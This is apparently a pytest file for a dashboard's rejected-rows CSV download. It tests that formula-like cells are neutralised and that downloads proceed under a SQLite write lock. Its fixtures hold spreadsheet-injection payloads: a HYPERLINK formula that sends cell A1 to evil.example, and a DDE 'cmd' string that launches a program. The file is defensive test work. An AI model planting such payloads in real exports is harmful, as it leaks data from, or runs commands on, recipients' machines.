"""The rejected rows download of the upload route, against what an attacker's file holds:
cells that a spreadsheet would run as formulas come back neutralised (both variants), and the
download answers while a load holds SQLite's write lock, its audit record written afterwards."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
import urllib.request

import pytest
from sqlalchemy import select

from dashboard.exports import FORMULA_PREFIXES, PLAIN_NUMBER, neutralise
from etl import audit
from etl.schema import audit_log
from tests.test_data_page import (  # noqa: F401 - fixtures of the upload route's tests
    aliases,
    app,
    batch_of,
    client,
    template,
    upload,
    warehouse,
)

# The second and third rows are rejected (legal_form "pas une forme"); their other cells start
# like formulas, but for a name (never stored with a rejected row) and a plain negative number.
HOSTILE_CELLS = {
    "org_id": "@SUM(1+1)",
    "cause": "+33 6 12 34 56 78",
    "city": '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "region_code": "-1+cmd|' /C calc'!A0",
}


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


HOSTILE = _csv([
    ["org_id", "name", "legal_form", "cause", "city", "region_code"],
    ["ORG-1", "Les Amis du Code", "association", "education", "Lyon", "84"],
    [HOSTILE_CELLS["org_id"], "Nom effacé", "pas une forme", HOSTILE_CELLS["cause"],
     HOSTILE_CELLS["city"], HOSTILE_CELLS["region_code"]],
    ["\t=2+3", "Tab", "pas une forme", "-4", "Villeurbanne", "84"],
])


def rows_of(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


# ---- formula cells: one function for every file that leaves ----

@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3", "-3"), ("+1,5", "+1,5"), ("-2.5e3", "-2.5e3"),
    ("-inf", "'-inf"), ("Lyon", "Lyon"), (12, 12),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


@pytest.mark.parametrize("variant, delimiter", [("", ","), ("?format=excel-fr", ";")])
def test_a_hostile_rejected_row_comes_back_neutralised(client, variant, delimiter):
    state = upload(client, {"organisations.csv": HOSTILE})
    batch_id = batch_of(state, "organisations.csv")
    answer = client.get(f"/upload/batches/{batch_id}/rejected.csv{variant}")
    assert answer.status_code == 200
    header, *rows = rows_of(answer.get_data(as_text=True), delimiter)
    assert len(rows) == 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or PLAIN_NUMBER.fullmatch(cell), row
    first = dict(zip(header, rows[0]))
    for column in ("org_id", "city", "region_code"):
        assert first[column] == "'" + HOSTILE_CELLS[column], column
    assert first["cause"] == "'" + HOSTILE_CELLS["cause"]
    assert "Nom effacé" not in answer.get_data(as_text=True)
    second = dict(zip(header, rows[1]))
    assert second["cause"] == "-4"  # a plain negative number stays a number
    assert second["org_id"].startswith("'") and second["org_id"].lstrip("'").strip() == "=2+3"


# ---- downloads never wait on a load's write lock ----

def download_audits(engine) -> list[dict]:
    with engine.connect() as conn:
        return [json.loads(d) for d in conn.execute(
            select(audit_log.c.detail).where(audit_log.c.action == "download")
            .order_by(audit_log.c.audit_id)).scalars()]


def test_a_download_answers_while_a_load_holds_the_write_lock(app, client, warehouse):
    """A real server (werkzeug, in a thread) on the SQLite warehouse; another connection holds
    a write transaction as a load does. The download answers within a client timeout far below
    SQLite's 30 s busy timeout, and its audit record is written once the lock is released."""
    from werkzeug.serving import make_server

    state = upload(client, {"organisations.csv": HOSTILE})
    batch_id = batch_of(state, "organisations.csv")
    assert audit.flush(timeout=30)
    before = len(download_audits(warehouse))

    server = make_server("127.0.0.1", 0, app.server, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    cookie = f"impact_session={client.get_cookie('impact_session').value}"
    url = f"http://127.0.0.1:{server.server_port}/upload/batches/{batch_id}/rejected.csv"
    locker = sqlite3.connect(warehouse.url.database, timeout=1, isolation_level=None)
    try:
        locker.execute("BEGIN IMMEDIATE")  # the write lock a running load holds
        locker.execute("INSERT INTO audit_log (at, actor, action, detail) VALUES "
                       "('2026-01-01', 'a load', 'lock_holder', '{}')")
        request = urllib.request.Request(url, headers={"Cookie": cookie})
        with urllib.request.urlopen(request, timeout=10) as answer:  # busy timeout: 30 s
            assert answer.status == 200 and b"row_number" in answer.read()
        assert len(download_audits(warehouse)) == before  # not written yet: the lock holds
        locker.execute("ROLLBACK")
    finally:
        locker.close()
        server.shutdown()
    assert audit.flush(timeout=30)
    records = download_audits(warehouse)
    assert len(records) == before + 1
    assert records[-1] == {"figure": "rejected_rows", "batch_id": batch_id, "format": "csv"}
    with warehouse.connect() as conn:
        actor = conn.execute(select(audit_log.c.actor).where(audit_log.c.action == "download")
                             .order_by(audit_log.c.audit_id.desc())).scalars().first()
    assert actor == "staff@example.org"


